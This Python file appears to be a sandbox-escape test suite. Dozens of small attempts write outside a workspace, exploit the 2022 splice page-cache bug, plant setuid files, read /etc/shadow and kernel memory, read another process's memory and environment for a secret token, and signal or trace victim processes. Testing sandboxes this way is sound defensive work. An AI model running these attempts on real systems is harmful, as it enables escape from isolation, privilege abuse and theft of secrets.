"""Attempts to get out of the sandbox, each a small program of its own; started in the sandbox and without it.

`python breakouts.py STAGE.json` makes every attempt that suits the stage, and writes into the workspace what
came of each. An attempt that returns something says that it got through. What changed outside, what the
person's processes heard, and what git obeys afterwards is judged by `breakout_stage`, whatever an attempt
says. It needs nothing but the standard library, because another user runs it.
"""

import array
import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import termios
import time
import traceback
from collections.abc import Callable
from types import SimpleNamespace

WORKSPACE, NET, HOME = "workspace", "net", "home"
TABLE: dict[str, tuple[Callable[[str], object], str, str]] = {}
"""By its name: the attempt, for which stages it is, and why it may fail without a sandbox, if it may."""

HARMLESS: set[str] = set()
"""Attempts that leave nothing in the process that makes them: one process makes all of these."""

S = SimpleNamespace()
"""The stage: what the person has, and where."""

LIBC = ctypes.CDLL(None, use_errno=True)
REFUSED = {errno.EPERM, errno.EACCES, errno.ENOSYS}
HIGH = 1 << 32
"""A bit that the kernel does not read where it takes an int; a filter of system calls sees it."""


def attempt(
    on: str = WORKSPACE, may_fail: str = ""
) -> Callable[[Callable[[str], object]], Callable[[str], object]]:
    def keep(body: Callable[[str], object]) -> Callable[[str], object]:
        assert body.__name__ not in TABLE, body.__name__
        TABLE[body.__name__] = (body, on, may_fail)
        return body

    return keep


ROOT = "an ordinary user may not do this anyway"
KERNEL = "this kernel refuses it anyway, or has no such thing"


ALONE = "it would reach what others run on this machine"


def call(number: int, *arguments: object) -> int:
    """A system call by its number on x86-64; a refusal is an OSError."""
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    found = LIBC.syscall(ctypes.c_long(number), *given)
    if found == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(found)


def reaches(number: int, *arguments: object) -> str | None:
    """Whether the kernel looks at what is asked, which is nonsense: it would do what makes sense."""
    try:
        return f"returned {call(number, *arguments)}"
    except OSError as error:
        if error.errno in REFUSED:
            raise
        return f"reached: {error}"


def buffer(size: int = 4096) -> "ctypes.Array[ctypes.c_char]":
    return ctypes.create_string_buffer(size)


def content(path: str) -> str:
    with open(path, errors="replace") as file:
        return file.read(100_000)


def secret_in(text: str) -> str | None:
    return "read a secret" if S.token in text else None


def put(path: str, text: str) -> None:
    with open(path, "w") as file:
        file.write(text)


def victim() -> int:
    """The number of the person's process here, if it can be seen."""
    for name in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if "breakout_stage.py\0" in content(f"/proc/{name}/cmdline"):
                return int(name)
    raise ProcessLookupError("the person's process is not seen")


def number() -> int:
    """Its number outside, seen or not; what has this number here may be a process of ours."""
    try:
        return victim()
    except ProcessLookupError:
        if S.pid <= os.getpid():
            raise
        return int(S.pid)


def run(*command: str, **options: object) -> str:
    done = subprocess.run(command, capture_output=True, text=True, timeout=10, check=False, **options)  # type: ignore[call-overload]
    if done.returncode:
        raise OSError(f"{command[0]} ended with {done.returncode}: {done.stderr.strip()[-200:]}")
    return str(done.stdout)


# --- files outside: {v} is a folder of the attempt's own, with `file`, `folder/`, `pipe` ---


@attempt()
def open_for_writing(v: str) -> None:
    os.write(os.open(f"{v}/file", os.O_WRONLY), b"changed")


@attempt()
def open_for_appending(v: str) -> None:
    os.write(os.open(f"{v}/file", os.O_RDWR | os.O_APPEND), b"changed")


@attempt()
def open_and_truncate(v: str) -> None:
    os.open(f"{v}/file", os.O_RDONLY | os.O_TRUNC)


@attempt()
def creat_by_number(v: str) -> None:
    call(85, f"{v}/new".encode(), 0o600)


@attempt()
def openat_from_a_folder_opened_for_its_path(v: str) -> None:
    os.open("new", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=os.open(v, os.O_PATH))


@attempt()
def openat2_without_any_resolve(v: str) -> None:
    call(437, -100, f"{v}/new".encode(), struct.pack("QQQ", os.O_CREAT | os.O_WRONLY, 0o600, 0), 24)


@attempt()
def openat2_by_way_of_the_root(v: str) -> None:
    root = os.open("/", os.O_PATH)
    call(437, root, f"{v}/file".encode(), struct.pack("QQQ", os.O_RDWR | os.O_TRUNC, 0, 0x10), 24)


@attempt()
def open_again_what_was_opened_for_its_path(v: str) -> None:
    os.write(os.open(f"/proc/self/fd/{os.open(f'{v}/file', os.O_PATH)}", os.O_WRONLY), b"changed")


@attempt()
def open_again_what_was_opened_for_reading(v: str) -> None:
    os.write(os.open(f"/proc/thread-self/fd/{os.open(f'{v}/file', os.O_RDONLY)}", os.O_RDWR), b"changed")


@attempt()
def a_nameless_file_gets_a_name(v: str) -> None:
    nameless = os.open(v, os.O_TMPFILE | os.O_RDWR, 0o600)
    call(265, -100, f"/proc/self/fd/{nameless}".encode(), -100, f"{v}/new".encode(), 0x400)


@attempt()
def a_nameless_file_of_the_workspace_gets_a_name_outside(v: str) -> None:
    nameless = os.open(S.work, os.O_TMPFILE | os.O_RDWR, 0o600)
    call(265, -100, f"/proc/self/fd/{nameless}".encode(), -100, f"{v}/new".encode(), 0x400)


@attempt(may_fail="linkat by a descriptor alone takes a capability")
def linkat_with_an_empty_path(v: str) -> None:
    held = os.open(f"{v}/file", os.O_PATH)
    call(265, held, b"", -100, f"{S.work}/linked-by-descriptor".encode(), 0x1000)
    put(f"{S.work}/linked-by-descriptor", "changed")


@attempt()
def a_hard_link_in_the_workspace(v: str) -> None:
    os.link(f"{v}/file", f"{S.work}/linked")
    put(f"{S.work}/linked", "changed")


@attempt()
def a_symbolic_link_in_the_workspace(v: str) -> None:
    os.symlink(f"{v}/file", f"{S.work}/symbolic")
    put(f"{S.work}/symbolic", "changed")


@attempt()
def a_folder_that_is_a_link(v: str) -> None:
    os.symlink(v, f"{S.work}/symbolic-folder")
    put(f"{S.work}/symbolic-folder/new", "made")


@attempt()
def rename_outside(v: str) -> None:
    os.rename(f"{v}/file", f"{v}/renamed")


@attempt()
def rename_out_of_the_workspace(v: str) -> None:
    put(f"{S.work}/to-be-moved", "moved")
    os.rename(f"{S.work}/to-be-moved", f"{v}/moved")


@attempt()
def rename_over_a_file(v: str) -> None:
    put(f"{S.work}/to-replace", "replaced")
    os.rename(f"{S.work}/to-replace", f"{v}/file")


@attempt()
def a_folder_moved_into_the_workspace(v: str) -> None:
    os.rename(f"{v}/folder", f"{S.work}/taken-folder")


@attempt()
def a_new_name_beside_the_workspace(v: str) -> object:
    os.mkdir(f"{S.work}/../a-sibling")
    return "made"


@attempt()
def write_by_asynchronous_input_and_output(v: str) -> None:
    context, held = ctypes.c_ulong(), os.open(f"{v}/file", os.O_WRONLY)
    call(206, 1, ctypes.byref(context))
    text = ctypes.create_string_buffer(b"changed")
    block = struct.pack("QIIHhIQQQ", 0, 0, 0, 1, 0, held, ctypes.addressof(text), 7, 0)
    room = ctypes.create_string_buffer(block, 64)
    call(209, context.value, 1, ctypes.byref(ctypes.c_void_p(ctypes.addressof(room))))


@attempt()
def rename_into_the_workspace(v: str) -> None:
    os.rename(f"{v}/file", f"{S.work}/taken")


@attempt()
def exchange_with_a_file_of_the_workspace(v: str) -> None:
    put(f"{S.work}/to-be-exchanged", "exchanged")
    call(316, -100, f"{S.work}/to-be-exchanged".encode(), -100, f"{v}/file".encode(), 2)


@attempt(may_fail=ROOT)
def rename_and_leave_a_whiteout(v: str) -> None:
    call(316, -100, f"{v}/file".encode(), -100, f"{v}/renamed".encode(), 4)


@attempt()
def remove_a_file(v: str) -> None:
    os.unlink(f"{v}/file")


@attempt()
def make_a_folder(v: str) -> None:
    os.mkdir(f"{v}/new")


@attempt()
def remove_a_folder(v: str) -> None:
    os.rmdir(f"{v}/folder")


@attempt()
def make_a_link(v: str) -> None:
    os.symlink("/", f"{v}/new")


@attempt()
def make_a_pipe(v: str) -> None:
    os.mkfifo(f"{v}/new")


@attempt()
def make_a_plain_file_by_mknod(v: str) -> None:
    os.mknod(f"{v}/new")


@attempt()
def make_a_socket(v: str) -> None:
    os.chdir(v)
    socket.socket(socket.AF_UNIX).bind("new")


@attempt()
def truncate(v: str) -> None:
    os.truncate(f"{v}/file", 1)


@attempt()
def change_the_mode(v: str) -> None:
    os.chmod(f"{v}/file", 0o777)


@attempt()
def change_the_mode_by_a_descriptor_for_reading(v: str) -> None:
    os.fchmod(os.open(f"{v}/file", os.O_RDONLY), 0o777)


@attempt()
def change_the_mode_through_proc(v: str) -> None:
    os.chmod(f"/proc/self/fd/{os.open(f'{v}/file', os.O_PATH)}", 0o777)


@attempt()
def change_the_mode_by_fchmodat2_with_an_empty_path(v: str) -> None:
    call(452, os.open(f"{v}/file", os.O_PATH), b"", 0o777, 0x1000)


@attempt()
def set_user_id_outside(v: str) -> None:
    os.chmod(f"{v}/file", 0o6755)


@attempt()
def change_the_owner_to_oneself(v: str) -> None:
    os.chown(f"{v}/file", os.getuid(), os.getgid())


@attempt()
def change_the_owner_by_a_descriptor_for_reading(v: str) -> None:
    os.fchown(os.open(f"{v}/file", os.O_RDONLY), -1, os.getgid())


@attempt()
def change_the_owner_of_a_link(v: str) -> None:
    os.lchown(f"{v}/link", -1, os.getgid())


@attempt()
def change_the_times(v: str) -> None:
    os.utime(f"{v}/file", (1, 1))


@attempt()
def change_the_times_by_a_descriptor_for_reading(v: str) -> None:
    os.utime(os.open(f"{v}/file", os.O_RDONLY), (1, 1))


@attempt()
def change_the_times_of_a_folder(v: str) -> None:
    os.utime(os.open(v, os.O_RDONLY), (1, 1))


@attempt(may_fail=KERNEL)
def set_an_attribute(v: str) -> None:
    os.setxattr(f"{v}/file", "user.changed", b"1")


@attempt(may_fail=KERNEL)
def set_an_attribute_by_a_descriptor_for_reading(v: str) -> None:
    os.setxattr(os.open(f"{v}/file", os.O_RDONLY), "user.changed", b"1")


@attempt(may_fail=KERNEL)
def set_an_attribute_by_setxattrat(v: str) -> None:
    value = ctypes.create_string_buffer(b"1")
    given = struct.pack("QII", ctypes.addressof(value), 1, 0)
    call(463, os.open(v, os.O_RDONLY), b"file", 0, b"user.changed", given, 16)


@attempt(may_fail=KERNEL)
def remove_an_attribute(v: str) -> None:
    os.removexattr(f"{v}/file", "user.kept")


@attempt(may_fail=KERNEL)
def change_the_flags_of_a_file(v: str) -> None:
    held, flags = os.open(f"{v}/file", os.O_RDONLY), array.array("i", [0])
    fcntl.ioctl(held, 0x80086601, flags)
    fcntl.ioctl(held, 0x40086602, array.array("i", [flags[0] | 0x80]))


@attempt(may_fail=KERNEL)
def change_the_flags_by_file_setattr(v: str) -> None:
    call(469, -100, f"{v}/file".encode(), struct.pack("QIIIIQ", 0x40, 0, 0, 0, 0, 0)[:24], 24, 0)


@attempt()
def fallocate_a_larger_file(v: str) -> None:
    os.posix_fallocate(os.open(f"{v}/file", os.O_RDWR), 0, 4096)


@attempt()
def copy_file_range_into_it(v: str) -> None:
    put(f"{S.work}/source", "changed")
    os.copy_file_range(os.open(f"{S.work}/source", os.O_RDONLY), os.open(f"{v}/file", os.O_WRONLY), 7)


@attempt()
def sendfile_into_it(v: str) -> None:
    put(f"{S.work}/source-2", "changed")
    os.sendfile(os.open(f"{v}/file", os.O_WRONLY), os.open(f"{S.work}/source-2", os.O_RDONLY), 0, 7)


@attempt()
def splice_into_it(v: str) -> None:
    reader, writer = os.pipe()
    os.write(writer, b"changed")
    os.splice(reader, os.open(f"{v}/file", os.O_WRONLY), 7)


@attempt(may_fail="a repaired kernel copies the page")
def splice_a_page_and_write_into_the_pipe(v: str) -> None:
    """The fault of 2022: what is written into the pipe went into the file that was spliced there."""
    reader, writer = os.pipe()
    for _ in range(16):
        os.write(writer, bytes(4096))
    for _ in range(16):
        os.read(reader, 4096)
    os.splice(os.open(f"{v}/file", os.O_RDONLY), writer, 1, offset_src=0)
    os.write(writer, b"changed")


@attempt()
def map_it_shared_and_write(v: str) -> None:
    with mmap.mmap(os.open(f"{v}/file", os.O_RDWR), 4) as memory:
        memory[:4] = b"chan"


@attempt(may_fail="the kernel lets no mapping of what was opened for reading become writable")
def map_it_for_reading_and_write_by_way_of_memory(v: str) -> None:
    held = os.open(f"{v}/file", os.O_RDONLY)
    LIBC.mmap.restype = ctypes.c_void_p
    place = LIBC.mmap(None, ctypes.c_size_t(4096), 1, 1, held, ctypes.c_long(0))
    memory = os.open("/proc/self/mem", os.O_RDWR)
    os.pwrite(memory, b"chan", place)


def handle_of(path: str) -> "ctypes.Array[ctypes.c_char]":
    handle, mount = buffer(136), ctypes.c_int()
    struct.pack_into("I", handle, 0, 128)
    call(303, -100, path.encode(), handle, ctypes.byref(mount), 0)
    return handle


@attempt(may_fail=ROOT)
def a_handle_opened_by_way_of_the_workspace(v: str) -> None:
    """The workspace may be on the same file system as what is outside, and is mounted for writing."""
    os.write(call(304, os.open(S.work, os.O_RDONLY), handle_of(f"{v}/file"), os.O_WRONLY), b"changed")


@attempt(may_fail=ROOT)
def a_handle_opened_by_way_of_the_root(v: str) -> None:
    os.write(call(304, os.open("/", os.O_RDONLY), handle_of(f"{v}/file"), os.O_RDWR), b"changed")


@attempt(may_fail=ROOT)
def a_handle_of_what_git_obeys(v: str) -> object:
    held = call(304, os.open(S.work, os.O_RDONLY), handle_of(f"{S.work}/.git/config"), os.O_RDWR)
    return f"opened {held}"


@attempt()
def write_into_a_pipe_that_somebody_reads(v: str) -> None:
    os.write(
        os.open(f"{S.out}/pipe", os.O_WRONLY | os.O_NONBLOCK), b"write_into_a_pipe_that_somebody_reads\n"
    )


@attempt()
def write_into_a_pipe_opened_both_ways(v: str) -> None:
    os.write(os.open(f"{S.out}/pipe", os.O_RDWR), b"write_into_a_pipe_opened_both_ways\n")


@attempt()
def a_lease_that_holds_up_others(v: str) -> object:
    fcntl.fcntl(os.open(f"{v}/file", os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK)
    return "whoever opens it for writing waits"


@attempt()
def a_lease_by_a_number_with_a_high_bit(v: str) -> object:
    call(72, os.open(f"{v}/file", os.O_RDONLY), HIGH | fcntl.F_SETLEASE, fcntl.F_RDLCK)
    return "whoever opens it for writing waits"


@attempt()
def a_lock_of_a_whole_file(v: str) -> object:
    fcntl.flock(os.open(f"{v}/file", os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
    return "others wait for the lock"


@attempt()
def take_what_others_write_into_a_pipe(v: str) -> object:
    return f"opened {os.open(f'{S.out}/pipe', os.O_RDONLY | os.O_NONBLOCK)}"


@attempt()
def a_lock_for_writing(v: str) -> object:
    fcntl.lockf(os.open(f"{v}/file", os.O_RDWR), fcntl.LOCK_EX | fcntl.LOCK_NB)
    return "others wait for the lock"


@attempt(may_fail=ROOT)
def fanotify_holds_up_whoever_opens(v: str) -> object:
    notifier = call(300, 0x4 | 0x1, os.O_RDONLY)
    call(301, notifier, 0x1, 0x10000, -100, f"{v}/file".encode())
    return "opening it waits for us"


@attempt(may_fail=ROOT)
def fanotify_sees_a_whole_file_system(v: str) -> object:
    notifier = call(300, 0, os.O_RDWR)
    call(301, notifier, 0x1 | 0x100, 0x20, -100, S.out.encode())
    return "every file that is opened is seen"


@attempt(may_fail=ROOT)
def account_processes_into_a_file(v: str) -> object:
    return reaches(163, f"{v}/folder".encode())


@attempt(may_fail=ROOT)
def swap_to_a_file(v: str) -> object:
    return reaches(167, f"{v}/folder".encode(), 0)


@attempt(may_fail=ROOT)
def quotas(v: str) -> object:
    return reaches(443, os.open(v, os.O_RDONLY), 0x800004 << 8, 0, buffer())


def _io_uring(v: str, opcode: int, path: str, flags: int) -> object:
    """A ring by hand: one entry that opens a file, which no filter of system calls sees."""
    parameters = buffer(120)
    ring = call(425, 4, parameters)
    sq = struct.unpack_from("10I", parameters, 40)
    entries = struct.unpack_from("I", parameters, 0)[0]
    rings = mmap.mmap(ring, sq[6] + entries * 4, offset=0)
    slots = mmap.mmap(ring, entries * 64, offset=0x10000000)
    name = ctypes.create_string_buffer(path.encode())
    slots[:64] = struct.pack(
        "BBHiQQIIQ", opcode, 0, 0, -100, 0, ctypes.addressof(name), 0o600, flags, 1
    ) + bytes(24)
    struct.pack_into("I", rings, sq[6], 0)
    tail = struct.unpack_from("I", rings, sq[1])[0]
    struct.pack_into("I", rings, sq[1], tail + 1)
    call(426, ring, 1, 1, 1, None, 0)
    return None


@attempt(may_fail=KERNEL)
def io_uring_makes_a_file(v: str) -> object:
    return _io_uring(v, 18, f"{v}/new", os.O_CREAT | os.O_WRONLY)


@attempt(may_fail=KERNEL)
def io_uring_is_there(v: str) -> object:
    return f"a ring: {call(425, 4, buffer(120))}"


@attempt()
def a_race_between_a_folder_and_a_link(v: str) -> None:
    """The folder becomes a link, and a folder again, between one write and the next."""
    place = f"{S.work}/race"
    os.makedirs(f"{place}/a")
    os.symlink(v, f"{place}/b")

    for at in range(100):
        with contextlib.suppress(OSError):
            put(f"{place}/a/new-{at}", "made")
        call(316, -100, f"{place}/a".encode(), -100, f"{place}/b".encode(), 2)


@attempt()
def shell_redirection(v: str) -> object:
    return run("sh", "-c", 'echo changed >> "$0/file"', v) or None


@attempt()
def a_program_in_memory_writes(v: str) -> None:
    program = call(319, b"program", 0)
    os.write(program, f"#!/bin/sh\necho changed > {v}/new\n".encode())
    os.set_inheritable(program, True)
    os.spawnv(os.P_WAIT, f"/proc/self/fd/{program}", ["program"])


@attempt()
def the_loader_runs_a_copy_with_another_name(v: str) -> object:
    with open("/bin/mkdir", "rb") as source, open(f"{S.work}/a-copy", "wb") as copy:
        copy.write(source.read())
    return run("/lib64/ld-linux-x86-64.so.2", f"{S.work}/a-copy", f"{v}/new") or None


@attempt()
def an_empty_environment_and_a_new_session(v: str) -> object:
    return run("setsid", "-w", "env", "-i", "/bin/sh", "-c", f"> {v}/new") or None


@attempt(may_fail=ROOT)
def a_device_of_the_disk_in_the_workspace(v: str) -> object:
    os.mknod(f"{S.work}/disk", 0o60600, S.disk)
    return f"opened {os.open(f'{S.work}/disk', os.O_RDONLY)}"


@attempt(may_fail=ROOT)
def a_device_of_the_memory_in_the_workspace(v: str) -> object:
    os.mknod(f"{S.work}/memory", 0o20600, os.makedev(1, 1))
    return f"opened {os.open(f'{S.work}/memory', os.O_RDONLY)}"


@attempt(may_fail=ROOT)
def a_file_with_capabilities(v: str) -> object:
    with open("/bin/true", "rb") as source, open(f"{S.work}/capable", "wb") as copy:
        copy.write(source.read())
    os.setxattr(
        f"{S.work}/capable", "security.capability", struct.pack("<IIIII", 0x2000001, 1 << 21, 0, 0, 0)
    )
    return "whoever runs it is an administrator"


@attempt()
def a_file_that_sets_the_user_for_others(v: str) -> object:
    with open("/bin/true", "rb") as source, open(f"{S.work}/set-user", "wb") as copy:
        copy.write(source.read())
    os.chmod(f"{S.work}/set-user", 0o6755)
    return "a bit is set" if os.stat(f"{S.work}/set-user").st_mode & 0o6000 else None


@attempt()
def a_file_that_sets_the_user_from_the_start(v: str) -> object:
    held = os.open(f"{S.work}/set-user-2", os.O_CREAT | os.O_WRONLY, 0o4755)
    return "a bit is set" if os.fstat(held).st_mode & 0o4000 else None


@attempt()
def programs_that_set_the_user_are_obeyed(v: str) -> object:
    return "they are" if call(157, 39, 0, 0, 0, 0) == 0 else None


@attempt(may_fail=f"{ROOT}, or {KERNEL}")
def a_control_group(v: str) -> object:
    for folder in ("/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids", "/sys/fs/cgroup"):
        if os.path.isdir(folder):
            os.mkdir(f"{folder}/breakout-{os.getpid()}")
            os.rmdir(f"{folder}/breakout-{os.getpid()}")
            return "made"
    raise FileNotFoundError("no control groups")


# --- what the system obeys: opened for writing only, never written ---


def _may_open(name: str, path: str, flags: int = os.O_WRONLY) -> None:
    def body(v: str) -> object:
        os.close(os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY))
        return "opened"

    body.__name__ = name
    HARMLESS.add(name)
    attempt(may_fail=f"{ROOT}, or {KERNEL}")(body)


for _path in (
    "/etc/passwd",
    "/etc/hosts",
    "/etc/ld.so.cache",
    "/etc/environment",
    "/etc/crontab",
    "/etc/profile",
    "/bin/sh",
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sys/kernel/hostname",
    "/proc/sys/vm/drop_caches",
    "/proc/sys/kernel/randomize_va_space",
    "/proc/sys/fs/protected_symlinks",
    "/proc/sys/net/ipv4/ip_forward",
    "/proc/sys/kernel/ns_last_pid",
    "/proc/sys/kernel/unprivileged_bpf_disabled",
    "/proc/sys/user/max_user_namespaces",
    "/proc/sysrq-trigger",
    "/proc/irq/default_smp_affinity",
    "/proc/mtrr",
    "/proc/bus/pci/devices",
    "/proc/scsi/scsi",
    "/proc/timer_list",
    "/proc/sys/fs/binfmt_misc/register",
    "/proc/1/oom_score_adj",
    "/proc/1/coredump_filter",
    "/proc/self/uid_map",
    "/proc/self/gid_map",
    "/proc/self/setgroups",
    "/proc/self/attr/current",
    "/proc/self/timens_offsets",
    "/sys/kernel/uevent_helper",
    "/sys/power/state",
    "/sys/kernel/mm/ksm/run",
    "/sys/module/kernel/parameters/panic",
    "/sys/fs/cgroup/cgroup.procs",
    "/sys/fs/cgroup/unified/cgroup.procs",
    "/sys/fs/cgroup/pids/tasks",
    "/sys/fs/cgroup/pids/release_agent",
    "/sys/fs/cgroup/memory/memory.limit_in_bytes",
    "/sys/kernel/debug",
    "/sys/block/vda/uevent",
    "/dev/kmsg",
    "/dev/fuse",
    "/dev/kvm",
    "/dev/net/tun",
    "/dev/userfaultfd",
    "/dev/loop-control",
    "/dev/loop0",
    "/dev/autofs",
    "/dev/btrfs-control",
    "/dev/tty0",
    "/dev/tty1",
    "/dev/ttyS0",
    "/dev/console",
    "/dev/vcsa",
    "/dev/vsock",
    "/dev/zram0",
    "/dev/hwrng",
    "/dev/cpu_dma_latency",
    "/dev/uinput",
    "/dev/vhost-net",
    "/dev/snd/seq",
    "/dev/dri/card0",
    "/dev/rtc0",
    "/dev/watchdog",
):
    _may_open("writes" + "".join(part if part.isalnum() else "_" for part in _path), _path)


@attempt(may_fail=ROOT)
def read_the_disk(v: str) -> object:
    for path in ("/dev/vda", "/dev/sda", "/dev/nvme0n1"):
        if os.path.exists(path):
            return len(os.read(os.open(path, os.O_RDONLY), 512))
    raise FileNotFoundError("no disk")


@attempt(may_fail=f"{ROOT}, or {KERNEL}")
def read_the_memory_of_the_machine(v: str) -> object:
    return len(os.read(os.open("/dev/mem", os.O_RDONLY), 1))


@attempt(may_fail=f"{ROOT}, or {KERNEL}")
def read_the_memory_of_the_kernel(v: str) -> object:
    return len(os.read(os.open("/proc/kcore", os.O_RDONLY), 64)) or None


@attempt(may_fail=ROOT)
def read_the_log_of_the_kernel(v: str) -> object:
    return len(os.read(os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK), 8192))


@attempt(may_fail=ROOT)
def read_the_log_of_the_kernel_by_syslog(v: str) -> object:
    return call(103, 3, buffer(), 4096)


@attempt(may_fail=ROOT)
def read_addresses_of_the_kernel(v: str) -> object:
    seen = content("/proc/kallsyms")
    return None if not seen or int(seen.split()[0], 16) == 0 else "addresses"


@attempt(may_fail=ROOT)
def read_pages_of_the_machine(v: str) -> object:
    return len(os.read(os.open("/proc/kpagecount", os.O_RDONLY), 8)) or None


@attempt(may_fail=ROOT)
def read_the_passwords_of_the_system(v: str) -> object:
    return content("/etc/shadow")[:4] or None


# --- processes of the person ---


@attempt()
def see_processes_and_their_words(v: str) -> object:
    return victim()


@attempt()
def its_environment(v: str) -> object:
    return secret_in(content(f"/proc/{S.helper}/environ"))


@attempt()
def its_root(v: str) -> None:
    put(f"/proc/{number()}/root{v}/new", "made")


@attempt()
def its_folder(v: str) -> object:
    return secret_in(content(f"/proc/{number()}/cwd/secret"))


@attempt()
def its_descriptors(v: str) -> object:
    return secret_in(content(f"/proc/{number()}/fd/{S.secret_fd}"))


@attempt()
def its_descriptors_for_writing(v: str) -> None:
    with open(f"/proc/{number()}/fd/{S.log_fd}", "a") as file:
        file.write("its_descriptors_for_writing\n")


@attempt()
def its_files_by_map_files(v: str) -> object:
    return os.listdir(f"/proc/{number()}/map_files")[:1] or None


@attempt()
def its_memory(v: str) -> object:
    return secret_in(os.pread(os.open(f"/proc/{number()}/mem", os.O_RDONLY), 64, S.address).decode("latin-1"))


@attempt()
def its_memory_for_writing(v: str) -> object:
    return f"wrote {os.pwrite(os.open(f'/proc/{number()}/mem', os.O_RDWR), b'!', S.scratch)}"


@attempt()
def its_memory_by_process_vm_readv(v: str) -> object:
    mine = buffer(64)
    call(
        310,
        number(),
        struct.pack("QQ", ctypes.addressof(mine), 64),
        1,
        struct.pack("QQ", S.address, 64),
        1,
        0,
    )
    return secret_in(mine.raw.decode("latin-1"))


@attempt()
def its_memory_by_process_vm_writev(v: str) -> object:
    mine = buffer(1)
    return call(
        311, number(), struct.pack("QQ", ctypes.addressof(mine), 1), 1, struct.pack("QQ", S.scratch, 1), 1, 0
    )


@attempt()
def trace_it(v: str) -> object:
    call(101, 0x4206, number(), 0, 0)
    return "traced"


@attempt()
def trace_ones_own_child(v: str) -> object:
    """Harmless by itself; with it a filter of system calls was passed before Linux 4.8."""
    child = os.fork()
    if not child:
        time.sleep(5)
        os._exit(0)
    try:
        call(101, 0x4206, child, 0, 0)
        return "traced"
    finally:
        os.kill(child, signal.SIGKILL)


@attempt()
def a_descriptor_of_it_by_pidfd(v: str) -> object:
    held = call(438, call(434, number(), 0), S.secret_fd, 0)
    return secret_in(os.pread(held, 100, 0).decode())


@attempt()
def compare_with_it(v: str) -> object:
    return reaches(312, os.getpid(), number(), 1, 0, 0)


@attempt()
def its_robust_list(v: str) -> object:
    head, size = ctypes.c_void_p(), ctypes.c_size_t()
    return f"got {call(274, number(), ctypes.byref(head), ctypes.byref(size))}"


@attempt(may_fail=KERNEL)
def where_its_pages_are(v: str) -> object:
    status = ctypes.c_int()
    page = struct.pack("Q", S.address & ~4095)
    return f"asked {call(279, number(), 1, page, None, ctypes.byref(status), 0)}"


@attempt(may_fail=ROOT)
def advise_about_its_memory(v: str) -> object:
    return call(440, call(434, number(), 0), struct.pack("QQ", S.scratch & ~4095, 4096), 1, 20, 0)


@attempt()
def count_what_it_does(v: str) -> object:
    attributes = struct.pack("IIQQQQQ", 1, 128, 1, 0, 0, 0, 0x60) + bytes(80)
    return f"a counter {call(298, attributes, number(), -1, -1, 0)}"


def _signals(name: str, send: Callable[[], object], may_fail: str = "") -> None:
    """The person's process says in its log which signal came; each attempt has one of its own."""

    def body(v: str) -> None:
        send()

    body.__name__ = name
    attempt(may_fail=may_fail)(body)


SIGNALS = {
    name: signal.SIGRTMIN + at
    for at, name in enumerate(
        (
            "kill_it",
            "tgkill_it",
            "queue_a_signal",
            "queue_a_signal_for_a_thread",
            "signal_by_pidfd",
            "signal_ones_parent",
            "signal_by_an_alarm_of_input",
            "signal_by_a_pidfd_of_the_peer",
        ),
        start=1,
    )
}
SIGNALS["signal_the_group"] = signal.SIGWINCH
SIGNALS["signal_everybody"] = signal.SIGURG


def _queued() -> bytes:
    return struct.pack("iiii", 0, 0, -1, 0) + struct.pack("ii", os.getpid(), os.getuid()) + bytes(104)


def _signal_of_input() -> None:
    left, right = socket.socketpair()
    fcntl.fcntl(left, fcntl.F_SETOWN, number())
    fcntl.fcntl(left, fcntl.F_SETSIG, SIGNALS["signal_by_an_alarm_of_input"])
    fcntl.fcntl(left, fcntl.F_SETFL, os.O_ASYNC)
    right.send(b"!")


def _signal_to_all() -> None:
    if S.alone:
        os.kill(-1, signal.SIGURG)


def _signal_to_group() -> None:
    os.kill(0, signal.SIGWINCH)


_signals("kill_it", lambda: os.kill(number(), SIGNALS["kill_it"]))
_signals("tgkill_it", lambda: call(234, number(), number(), SIGNALS["tgkill_it"]))
_signals("queue_a_signal", lambda: call(129, number(), SIGNALS["queue_a_signal"], _queued()))
_signals(
    "queue_a_signal_for_a_thread",
    lambda: call(297, number(), number(), SIGNALS["queue_a_signal_for_a_thread"], _queued()),
)
_signals(
    "signal_by_pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open(number()), SIGNALS["signal_by_pidfd"])
)
_signals("signal_by_an_alarm_of_input", _signal_of_input)
_signals("signal_everybody", _signal_to_all, ALONE)
_signals("signal_the_group", _signal_to_group)


@attempt()
def renice_it(v: str) -> object:
    os.setpriority(os.PRIO_PROCESS, number(), 18)
    return "slower"


@attempt(may_fail=ALONE)
def renice_whatever_the_user_runs(v: str) -> None:
    if S.alone:
        os.setpriority(os.PRIO_USER, os.getuid(), 18)


@attempt()
def renice_the_group(v: str) -> None:
    """The group of a process may have members that the process itself cannot see."""
    os.setpriority(os.PRIO_PGRP, 0, 19)


@attempt()
def lower_the_group_in_the_queue_of_the_disk(v: str) -> None:
    call(251, 2, 0, 2 << 13 | 6)


@attempt()
def have_it_ended_for_its_memory(v: str) -> object:
    put(f"/proc/{number()}/oom_score_adj", "900")
    return "it is ended first"


@attempt()
def slow_its_disk(v: str) -> object:
    return f"slower {call(251, 1, number(), 2 << 13 | 5)}"


@attempt()
def its_limits(v: str) -> object:
    return resource.prlimit(number(), resource.RLIMIT_NOFILE)


@attempt()
def its_processors(v: str) -> object:
    os.sched_setaffinity(number(), os.sched_getaffinity(0))
    return "moved"


@attempt()
def its_scheduler(v: str) -> object:
    os.sched_setscheduler(number(), os.SCHED_OTHER, os.sched_param(0))
    return "changed"


@attempt(may_fail=ROOT)
def run_before_everybody(v: str) -> object:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
    return "a real-time process"


@attempt(may_fail=ROOT)
def a_better_priority(v: str) -> object:
    return os.nice(-5)


@attempt()
def not_be_the_first_to_end_without_memory(v: str) -> object:
    put("/proc/self/oom_score_adj", "0")
